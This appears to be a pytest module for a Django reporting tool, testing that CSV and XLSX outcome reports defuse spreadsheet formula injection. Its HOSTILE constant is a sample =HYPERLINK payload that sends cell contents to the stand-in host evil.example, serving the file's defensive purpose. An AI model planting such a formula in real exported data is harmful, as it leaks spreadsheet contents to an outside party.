"""The report's files are safe to open in a spreadsheet program (OWASP CSV injection): a cohort
called like a formula stays text, in CSV and XLSX, internal and external."""

import copy
import csv
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from droomplan.programmes.tests.factories import MunicipalityFactory, ProgrammeFactory

from .factories import published_dataset

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")'


@pytest.fixture(scope="module")
def hostile(module_db):
    """The published dataset with a cohort named like a formula, built once for this module."""
    with module_db.unblock():
        MunicipalityFactory()
        mothers = published_dataset(ProgrammeFactory(code="droommoeders", name="Droommoeders"))
        cohort = mothers[0].cohort
        cohort.name = HOSTILE
        cohort.save()
        return mothers


@pytest.fixture
def data(db, hostile):
    return copy.deepcopy(hostile)


pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("data")]


def _run(*args) -> str:
    out = io.StringIO()
    call_command("outcome_report", "--as-of", "2026-06-30", *args, stdout=out, stderr=io.StringIO())
    return out.getvalue()


@pytest.mark.parametrize("external", [False, True])
def test_csv_cells_that_look_like_formulas_start_with_an_apostrophe(data, external):
    text = _run("--format", "csv", *(["--external"] if external else []))
    rows = list(csv.DictReader(io.StringIO(text)))
    names = {row["group_name"] for row in rows if row["scope"] == "cohort"}
    assert "'" + HOSTILE in names
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit()


@pytest.mark.parametrize("external", [False, True])
def test_xlsx_has_no_formulas_and_keeps_the_name_as_text(data, external, tmp_path):
    target = tmp_path / "r.xlsx"
    _run("--format", "xlsx", "--output", str(target), *(["--external"] if external else []))
    book = load_workbook(target)
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value == HOSTILE:
                    assert cell.quotePrefix
                    found.append(sheet.title)
    assert found  # the cohort is listed, shown as it is called
